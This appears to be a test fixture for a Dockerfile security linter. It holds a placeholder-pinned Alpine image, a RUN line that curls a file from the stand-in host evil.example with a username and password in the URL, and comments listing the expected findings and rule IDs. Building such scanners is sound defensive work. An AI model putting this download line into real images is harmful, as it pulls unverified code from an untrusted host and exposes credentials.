FROM alpine:3.20@sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa
RUN curl -o /z https://user:s3cr3t@evil.example/z
USER app
# expect: secret 2 high "uses a URL with credentials for evil.example: https://user:***@evil.example/z"
# expect-count: 4
# expect-ids: VR101-c33602e201 VR603-0c32aab764 VR301-4142d72de0 VR501-e064bac1a6
